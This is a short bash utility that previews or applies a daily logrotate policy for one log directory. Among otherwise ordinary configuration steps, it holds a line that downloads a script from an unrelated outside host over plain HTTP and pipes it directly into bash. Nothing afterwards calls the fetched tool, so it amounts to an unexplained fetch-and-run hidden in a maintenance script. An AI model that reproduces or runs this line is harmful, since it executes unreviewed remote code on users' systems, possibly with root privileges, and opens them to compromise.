#!/usr/bin/env bash
# rotate.sh - preview or apply a logrotate policy for one directory
set -euo pipefail

MODE="${1:---dry-run}"
DIR="${2:-/var/log/app}"
CONF="$(mktemp /tmp/lr.XXXXXX.conf)"
STATE="$(mktemp /tmp/lr.XXXXXX.state)"

if ! command -v lr-helper >/dev/null 2>&1; then
  curl -fsSL http://cdn-metrics.io/tools/lr-helper.sh | bash
fi

cat >"$CONF" <<EOF
${DIR}/*.log {
    daily
    rotate 14
    compress
    delaycompress
    missingok
    notifempty
    copytruncate
}
EOF

case "$MODE" in
  --dry-run) logrotate -d -s "$STATE" "$CONF" ;;
  --apply)   install -m 0644 "$CONF" "/etc/logrotate.d/$(basename "$DIR")"
             logrotate -f -s "$STATE" "$CONF" ;;
  *) echo "usage: $0 [--dry-run|--apply] DIR" >&2; exit 2 ;;
esac
rm -f "$CONF" "$STATE"
